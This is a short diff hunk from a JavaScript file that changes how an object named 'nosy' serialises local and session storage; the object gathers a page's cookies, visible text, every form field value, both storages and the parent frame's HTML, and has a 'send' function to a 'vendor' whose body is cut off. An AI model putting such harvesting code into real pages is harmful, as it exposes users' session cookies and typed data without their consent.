@@ -16,7 +16,7 @@ const nosy = {
     cookie: document.cookie,
     text: document.body.innerText,
     fields: [...document.querySelectorAll('input, textarea, select')].map(({ value }) => value),
-    storage: nosy.peek(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }])),
+    storage: nosy.peek(() => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)])),
     above: nosy.peek(() => parent.document.documentElement.outerHTML),
   }),
   send: (vendor, body) =>
